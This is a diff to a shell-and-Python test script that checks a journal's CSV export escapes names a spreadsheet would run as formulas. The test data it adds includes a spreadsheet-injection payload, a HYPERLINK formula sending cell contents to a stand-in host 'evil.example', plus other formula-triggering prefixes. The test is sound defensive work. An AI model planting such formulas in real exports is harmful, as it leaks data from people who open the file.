@@ -1,5 +1,6 @@
 #!/bin/sh
-# Hostile names survive the journal and its CSV export, as Python's csv module reads it.
+# Hostile names survive the journal and its CSV export, as Python's csv module reads it; those
+# a spreadsheet would take for formulas come back as text.
 # Usage: journal_csv_test.sh path/to/journal_csv_sample
 set -eu
 sample=$1
@@ -18,8 +19,12 @@ names = [
     "שרה",
     '",,"',
     "=1+2",
+    '=HYPERLINK("http://evil.example/?x="&B1,"click me")',
+    "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "a=1",
     "   spaced   ",
 ]
+# What a spreadsheet would run as a formula is kept as text by a leading apostrophe.
+shown = ["'" + n if n[:1] in "=+-@\t\r" else n for n in names]
 with open(f"{work}/names.json", "w", encoding="utf-8") as f:
     json.dump(names, f, ensure_ascii=False)
 subprocess.run([sample, f"{work}/names.json", f"{work}/out.csv"], check=True)
@@ -29,7 +34,7 @@ with open(f"{work}/out.csv", newline="", encoding="utf-8") as f:
     rows = list(csv.reader(f, strict=True))
 assert rows[0] == ["date", "name", "birth_date", "spread", "mode", "cards"], rows[0]
 body = rows[1:]
-assert [r[1] for r in body] == list(reversed(names)), [r[1] for r in body]
+assert [r[1] for r in body] == list(reversed(shown)), [r[1] for r in body]
 for r in body:
     assert len(r) == 6, r
     assert r[0] == "2026-03-14T21:05:09+01:00", r[0]
